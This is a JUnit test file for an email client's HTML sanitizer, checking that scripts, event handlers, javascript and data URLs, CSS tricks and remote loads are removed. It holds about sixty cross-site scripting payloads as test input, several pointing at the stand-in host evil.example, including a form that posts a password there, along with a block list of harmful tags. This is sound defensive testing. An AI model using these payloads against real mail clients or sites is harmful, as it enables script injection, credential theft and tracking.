package email.daimon.compose;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class FrameDocumentTest {
  private static final Set<String> HARMFUL =
      Set.of(
          "script",
          "iframe",
          "frame",
          "frameset",
          "object",
          "embed",
          "applet",
          "form",
          "input",
          "button",
          "select",
          "textarea",
          "base",
          "link",
          "svg",
          "math",
          "style",
          "template",
          "noscript",
          "video",
          "audio",
          "source",
          "portal",
          "meta",
          "title",
          "img");

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror\n=\nalert(1)>",
        "<img/src='x'/onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<math><mi xlink:href='data:text/html,<script>alert(1)</script>'>x</mi></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
            + " onerror=alert(1)&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' java\tscript:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "<a href='JaVaScRiPt:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<iframe src='javascript:alert(1)'></iframe>",
        "<object data='data:text/html,x'></object>",
        "<embed src='//evil.example'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href='https://evil.example/'>",
        "<link rel=stylesheet href='https://evil.example/x.css'>",
        "<style>@import 'https://evil.example/x.css';body{background:url(//evil.example)}</style>",
        "<div style='background:url(https://evil.example/p.gif)'>x</div>",
        "<div style='background-image:u\\72l(https://evil.example/p.gif)'>x</div>",
        "<div style='width:expression(alert(1))'>x</div>",
        "<div style='behavior:url(x.htc)'>x</div>",
        "<div style='-moz-binding:url(x)'>x</div>",
        "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
        "<div style='position:absolute;top:-99px'>x</div>",
        "<div style='content:attr(x)'>x</div>",
        "<div style='color:red;}</style><script>alert(1)</script>'>x</div>",
        "<body onload=alert(1)>x",
        "<p onclick='alert(1)' onmouseover=alert(1)>x</p>",
        "<input autofocus onfocus=alert(1)>",
        "<form action='https://evil.example'><input name=password><button>x</button></form>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<table background='javascript:alert(1)'><tr><td background='//evil.example'>x</table>",
        "<!--<img src='--><img src=x onerror=alert(1)//'>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<!--[if mso]><script>alert(1)</script><![endif]-->",
        "<xmp><script>alert(1)</script></xmp>",
        "<textarea></textarea><script>alert(1)</script>",
        "<template><script>alert(1)</script></template>",
        "<a id=x name=y href='#x' onclick=alert(1)>x</a>",
        "</body></html><script>alert(1)</script>",
        "</iframe><script>alert(1)</script>",
        "\"><script>alert(1)</script>",
        "<img src='cid:a' onerror=alert(1)><img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<img srcset='https://evil.example/x 1x' src='https://evil.example/y'>",
        "<div dir='x' class='y' id='z' data-x='y' contenteditable>x</div>",
        "<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>",
      })
  void nothingRunsLoadsOrLeavesItsPlace(String payload) {
    for (boolean images : new boolean[] {false, true}) {
      Document shown = Jsoup.parse(FrameDocument.of("<p>before</p>" + payload, images).html());
      assertThat(shown.head().children()).hasSize(3);
      for (Element element : shown.body().getAllElements()) {
        String name = element.normalName();
        assertThat(HARMFUL.contains(name) && !(images && name.equals("img")))
            .as(element.outerHtml())
            .isFalse();
        element
            .attributes()
            .forEach(attribute -> harmless(attribute.getKey(), attribute.getValue(), images));
      }
      assertThat(shown.body().text()).startsWith("before");
    }
  }

  private static void harmless(String name, String value, boolean images) {
    String text = value.toLowerCase(Locale.ROOT).replaceAll("[\\s\\p{Cntrl}]", "");
    assertThat(name).doesNotStartWith("on").isNotIn("srcset", "srcdoc", "background", "action");
    if (name.equals("src")) {
      assertThat(images).isTrue();
      assertThat(text).startsWith("https://");
    }
    if (name.equals("href")) {
      assertThat(text).matches("(https?:|mailto:|tel:).*");
    }
    if (name.equals("style")) {
      assertThat(text)
          .doesNotContain(
              "url(", "expression", "@import", "behavior", "binding", "position:", "\\");
    }
  }

  @Test
  void itsOwnPolicyLetsNothingRunAndNoPictureOfTheWebLoad() {
    FrameDocument shown =
        FrameDocument.of(
            "<p>a <img src='https://t.example/p.gif' alt='Logo'><img src='http://t.example/q'></p>",
            false);
    assertThat(shown.blockedImages()).isEqualTo(2);
    assertThat(shown.html())
        .contains("default-src 'none'", "img-src 'none'", "a Logo")
        .doesNotContain("t.example");
    FrameDocument asked = FrameDocument.of("<img src='https://t.example/p.gif'>", true);
    assertThat(asked.html()).contains("img-src https:", "src=\"https://t.example/p.gif\"");
    assertThat(asked.blockedImages()).isZero();
    assertThat(FrameDocument.of("<img src='http://t.example/q'>", true).blockedImages()).isOne();
  }

  @Test
  void linksOpenOutsideAndSayWhereTheyLead() {
    String html =
        FrameDocument.of("<a href='https://evil.example/x' title='bank'>bank.example</a>", false)
            .html();
    assertThat(html)
        .contains("target=\"_blank\"", "title=\"evil.example\"", "noopener noreferrer")
        .doesNotContain("title=\"bank\"");
  }

  @Test
  void stylesOfElementsAndTablesStay() {
    String html =
        FrameDocument.of(
                "<table width=600><tr><td bgcolor='#fff' style='color:red'>x</td></tr></table>",
                false)
            .html();
    assertThat(html).contains("<table", "bgcolor", "color:red");
  }

  @Test
  void deepAndLongHtmlIsShownInTime() {
    for (String html :
        List.of("<div>".repeat(50_000), "<b>x".repeat(50_000), "<".repeat(500_000))) {
      long begun = System.nanoTime();
      assertThat(FrameDocument.of(html, false).html()).endsWith("</html>");
      assertThat(System.nanoTime() - begun).isLessThan(5_000_000_000L);
    }
  }
}
